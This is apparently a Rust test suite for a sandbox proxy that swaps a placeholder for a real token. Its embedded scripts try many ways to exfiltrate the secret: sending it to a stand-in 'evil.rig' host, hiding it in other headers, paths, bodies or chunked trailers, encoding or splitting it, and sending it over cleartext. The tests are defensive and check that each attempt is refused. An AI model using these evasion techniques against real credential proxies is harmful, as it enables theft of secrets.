//! F61 and F62: what a sandbox holds instead of a secret, used to get the secret, or to carry it elsewhere.
//!
//! Beside the usual criterion: the secret arrives in the header that it is for, and in nothing else that an origin, the
//! sandbox or a reader of the audit record ever sees.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::client::{assert_answer, assert_refusals, attack};
use crate::support::exeat::{Outcome, Run};
use crate::support::world::World;

const POLICY: &str = "
version: 1
allow:
  allowed.rig: []
  evil.rig: [{}]
secrets:
  KEY: { file: KEYFILE, to: [allowed.rig] }
placeholders: { TOKEN: KEY }
";

/// Put together here, so that nothing that looks like a credential stands in this file.
fn key() -> String {
    format!("ghp_{}", "cAn4ry".repeat(6))
}

/// What scripts here begin with: the placeholder, and a request of any kind with `FIELDS`.
const HELD: &str = "
import base64
T = os.environ['TOKEN']
def b64(text):
    return base64.b64encode(text.encode()).decode()
def ask(what, path='/', method='GET', body=b'', host='allowed.rig', address=None, **fields):
    extra = ''.join(f'{name.replace(\"_\", \"-\")}: {value}\\r\\n' for name, value in fields.items())
    if body and 'transfer_encoding' not in fields:
        extra += f'Content-Length: {len(body)}\\r\\n'
    tls(what, address or ALLOWED, 443, host, request(host, path, method, extra) + body)
";

/// Runs a script in a sandbox that holds a placeholder; the secret is nowhere that anybody here can see.
fn held(world: &World, script: &str) -> Outcome {
    let run = run(world);
    let outcome = attack(world, run, &format!("{HELD}{script}"));
    for text in [&outcome.stdout, &outcome.stderr, &outcome.audit] {
        assert!(!text.contains(&key()), "{outcome:#?}");
    }
    outcome
}

fn run(world: &World) -> Run<'_> {
    let run = world.run().file("key", key());
    let policy = POLICY.replace("KEYFILE", run.folder().join("key").to_str().expect("UTF-8"));
    run.policy(&policy)
}

/// F61: the right header to the right origin, and the origin echoes what it got: the sandbox reads neither.
#[test]
fn f61_the_origin_gets_the_secret_and_its_echo_is_struck_out() {
    World::each(|world| {
        let outcome = held(
            world,
            "
assert T.startswith('ghp_') and len(T) == 40, T
def whole(what, **fields):
    def f():
        context = ssl._create_unverified_context()
        context.set_alpn_protocols(['http/1.1'])
        with dial(ALLOWED, 443) as plain, context.wrap_socket(plain, server_hostname='allowed.rig') as s:
            extra = ''.join(f'{name.replace(\"_\", \"-\")}: {value}\\r\\n' for name, value in fields.items())
            s.sendall(request('allowed.rig', '/echo', 'GET', extra))
            return drain(s)
    attempt(what, f)
whole('bearer', authorization='Bearer ' + T)
whole('basic', authorization='Basic ' + b64('x-access-token:' + T))
whole('key', x_api_key=T)
ask('none', authorization='Bearer mine')",
        );
        assert!(outcome.stdout.matches("HTTP/1.1 200").count() == 4, "{outcome:#?}");
        let requests = world.allowed.https.requests();
        let sent: Vec<&str> = requests.iter().flat_map(|request| request.header("authorization")).collect();
        let basic = STANDARD.encode(format!("x-access-token:{}", key()));
        assert_eq!(sent, [&format!("Bearer {}", key()), &format!("Basic {basic}"), "Bearer mine"]);
        assert_eq!(requests[2].header("x-api-key"), [key()]);
        assert!(!outcome.stdout.contains(&basic[24..]), "{outcome:#?}");
        assert_eq!(outcome.audit.matches("\"injected\":[\"authorization\"]").count(), 2, "{outcome:#?}");
        assert_eq!(outcome.audit.matches("\"injected\":[\"x-api-key\"]").count(), 1, "{outcome:#?}");
    });
}

/// F61: to another origin that the policy allows, also as a client does that follows a redirect with all its headers.
#[test]
fn f61_to_another_origin() {
    World::each(|world| {
        let outcome = held(
            world,
            "
def evil(what, **fields):
    ask(what, host='evil.rig', address=EVIL, **fields)
evil('bearer', authorization='Bearer ' + T)
evil('basic', authorization='Basic ' + b64('u:' + T))
evil('key', x_api_key=T)
evil('path', path='/' + T)
evil('query', path='/?t=' + T)
evil('body', method='POST', body=b'a' * 100000 + T.encode(), content_type='text/plain')",
        );
        assert_refusals(&outcome, 6);
        assert!(!world.evil.https.inner().contains("ghp_"), "it was sent on");
        outcome.assert_denied("placeholder-misdirected", &[("name", "evil.rig")]);
    });
}

/// F61: in a header that services store and show again, or in two at once.
#[test]
fn f61_in_another_header() {
    World::each(|world| {
        let outcome = held(
            world,
            "
ask('agent', user_agent=T)
ask('cookie', cookie='session=' + T)
ask('alike', x_api_key='mine', x_api_key_2=T)
ask('referer', referer='https://allowed.rig/?t=' + T)
ask('beside', authorization='Bearer ' + T, user_agent=T)
ask('twice', authorization='Bearer ' + T, AUTHORIZATION='Bearer ' + T)
ask('after another', authorization='Bearer mine', AUTHORIZATION='Bearer ' + T)
ask('name', **{T.lower(): T})
ask('method', method=T)",
        );
        assert_refusals(&outcome, 9);
        world.allowed.assert_untouched();
        outcome.assert_denied("placeholder-misdirected", &[("name", "allowed.rig")]);
    });
}

/// F61: one half in each of two headers: what arrives is two halves of nothing.
#[test]
fn f61_split_over_two_headers() {
    World::each(|world| {
        let outcome = held(
            world,
            "
ask('two', authorization='Bearer ' + T[:20], x_api_key=T[20:])
ask('fields', authorization='Bearer ' + T[:20], AUTHORIZATION=T[20:])",
        );
        assert_answer(&outcome, "two", &["HTTP/1.1 200"]);
        assert!(!world.allowed.https.inner().contains(&key()), "it was replaced");
        assert!(!outcome.audit.contains("\"injected\""), "{outcome:#?}");
    });
}

/// F61: in the path and the query, where servers log it, over HTTP/1 and in a pseudo-header of HTTP/2.
#[test]
fn f61_in_the_path_and_in_pseudo_headers() {
    World::each(|world| {
        let outcome = held(
            world,
            "
ask('path', path='/' + T)
ask('within', path='/a/' + T + '/b?c')
ask('query', path='/?access_token=' + T)
ask('escaped', path='/?t=' + ''.join(f'%{ord(c):02x}' for c in T))
ask('coded', path='/' + b64('x' + T))
ask('backwards', path='/' + T[::-1])",
        );
        assert_refusals(&outcome, 6);
        let script = "for url in https://allowed.rig/$TOKEN https://allowed.rig/?t=$TOKEN; do \
            curl -s -o /dev/null -w '%{http_version} %{http_code}\\n' --http2 $url; done";
        let outcome = run(world).bash(script);
        assert_eq!(outcome.stdout, "2 403\n2 403\n", "{outcome:#?}");
        world.allowed.assert_untouched();
    });
}

/// F62: spelled in another way where it may stand as it is: it is not sent on, and not replaced.
#[test]
fn f62_in_another_spelling() {
    World::each(|world| {
        let outcome = held(
            world,
            "
ask('escaped', authorization='Bearer ' + T.replace('_', '%5f'))
ask('unicode', x_api_key=T.replace('_', '\\\\u005f'))
ask('coded', x_api_key=b64(T))
ask('hex', x_api_key=T.encode().hex())
ask('twice coded', authorization='Basic ' + b64('u:' + b64('xx' + T)))
ask('both', authorization='Basic ' + b64(T + ':' + T[::-1]))",
        );
        assert_refusals(&outcome, 6);
        world.allowed.assert_untouched();
    });
}

/// F61: in the body and in trailers: whole, over chunks, coded; the origin gets no request that it could take for one.
#[test]
fn f61_in_a_body_and_in_trailers() {
    World::each(|world| {
        let outcome = held(
            world,
            "
def post(what, body, **fields):
    ask(what, method='POST', body=body, **fields)
def chunked(*pieces, trailers=b''):
    return b''.join(b'%x\\r\\n%s\\r\\n' % (len(piece), piece) for piece in pieces) + b'0\\r\\n' + trailers + b'\\r\\n'
post('whole', T.encode())
post('json', ('{\"text\": \"' + T + '\"}').encode())
post('late', b'x' * 300000 + T.encode() + b'y' * 300000)
post('coded', base64.b64encode(b'a' + T.encode() + b'b'))
post('authorised', T.encode(), authorization='Bearer ' + T)
half = len(T) // 2
post('chunks', chunked(b'a' + T[:half].encode(), T[half:].encode() + b'b'), transfer_encoding='chunked')
post('trailer', chunked(b'a', trailers=b'x-note: ' + T.encode() + b'\\r\\n'), transfer_encoding='chunked')",
        );
        assert_refusals(&outcome, 7);
        assert!(!world.allowed.https.inner().contains("x-note"), "the trailer was sent on");
        let denials = outcome.audit.matches("placeholder-misdirected").count();
        assert_eq!(denials, 7, "{outcome:#?}");
        // It begins like one and is none: it passes, to the last byte.
        let outcome = held(world, "ask('begun', method='POST', body=T[:8].encode())");
        assert_answer(&outcome, "begun", &["HTTP/1.1 200"]);
        assert!(world.allowed.https.requests().iter().any(|request| request.body.starts_with(b"ghp_")));
    });
}

/// F64: over cleartext HTTP to the very origin.
#[test]
fn f64_a_placeholder_in_clear() {
    World::each(|world| {
        let outcome = held(
            world,
            "
clear = request('allowed.rig', extra='Authorization: Bearer ' + T + '\\r\\n')
tcp('clear', ALLOWED, 80, clear)
tls('fronted', ALLOWED, 443, 'allowed.rig', clear.replace(b'allowed.rig', b'evil.rig'))",
        );
        assert_refusals(&outcome, 2);
        world.allowed.assert_untouched();
        outcome.assert_denied("placeholder-misdirected", &[("name", "allowed.rig")]);
    });
}

/// F69: another sandbox's placeholder is any text: it is not replaced.
#[test]
fn f69_another_sandboxes_placeholder() {
    World::each(|world| {
        let first = run(world).bash("echo $TOKEN").succeeded();
        let other = first.stdout.trim().to_owned();
        let script = format!("ask('other', authorization='Bearer {other}')\nassert T != '{other}'");
        let outcome = held(world, &script);
        assert_answer(&outcome, "other", &["HTTP/1.1 200"]);
        let requests = world.allowed.https.requests();
        assert_eq!(requests[0].header("authorization"), [format!("Bearer {other}")]);
        assert!(!outcome.audit.contains("\"injected\""), "{outcome:#?}");
    });
}
